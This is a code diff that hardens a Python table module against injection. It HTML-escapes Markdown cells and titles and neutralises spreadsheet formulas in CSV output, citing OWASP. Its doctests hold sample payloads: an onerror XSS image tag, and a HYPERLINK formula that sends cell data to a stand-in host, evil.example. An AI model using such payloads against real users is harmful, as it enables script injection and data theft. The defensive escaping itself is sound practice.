@@ -243,8 +243,36 @@ class FittedTable(RichTable):
 
 
 def markdown_escape(text: Any) -> str:
-    """A Markdown table cell: ``\\`` and ``|`` backslash-escaped, newlines as spaces."""
-    return str(text).replace("\\", "\\\\").replace("|", "\\|").replace("\n", " ")
+    """A Markdown table cell: ``\\`` and ``|`` backslash-escaped, newlines as spaces, and
+    ``&``, ``<``, ``>`` as HTML entities, so a model name ``<img src=x onerror=...>`` is
+    text in every Markdown renderer, never HTML (issue 47 point 11).
+
+    >>> markdown_escape("<img src=x onerror=alert(1)> | a")
+    '&lt;img src=x onerror=alert(1)&gt; \\\\| a'
+    """
+    text = str(text).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+    return text.replace("\\", "\\\\").replace("|", "\\|").replace("\n", " ")
+
+
+#: what a spreadsheet reads as the start of a formula (OWASP, "CSV injection")
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: Any) -> Any:
+    """A CSV cell no spreadsheet runs (OWASP's rule for CSV injection): a text starting with
+    ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, unless it
+    is a number (``-0.5``) or the lone ``-`` of a missing value; other values as they are.
+
+    >>> csv_cell('=HYPERLINK("http://evil.example/?"&A1,"c")')[:11], csv_cell("-0.5")
+    ("'=HYPERLINK", '-0.5')
+    """
+    if not isinstance(value, str) or not value.startswith(_FORMULA_START) or value == "-":
+        return value
+    try:
+        float(value)
+    except ValueError:
+        return "'" + value
+    return value
 
 
 _LATEX_SPECIAL = {
@@ -319,8 +347,9 @@ class Table:
         """GitHub-flavoured Markdown (see the module docstring)."""
         lines: list[str] = []
         if self.title is not None:
-            head = f"**{self.title}.**"
-            lines += [head if self.caption is None else f"{head} {self.caption}", ""]
+            head = f"**{html.escape(self.title, quote=False)}.**"
+            caption = None if self.caption is None else html.escape(self.caption, quote=False)
+            lines += [head if caption is None else f"{head} {caption}", ""]
         if not self.rows and self.empty is not None:
             lines.append(self.empty)
         else:
@@ -385,8 +414,8 @@ class Table:
         source = self.raw if self.raw is not None else self
         buf = io.StringIO()
         writer = csv.writer(buf, lineterminator="\n")
-        writer.writerow(source.columns)
-        writer.writerows(source.rows)
+        writer.writerow([csv_cell(c) for c in source.columns])
+        writer.writerows([csv_cell(v) for v in row] for row in source.rows)
         return buf.getvalue()
 
     def to_rich(self, width: int | None = None) -> RichTable:
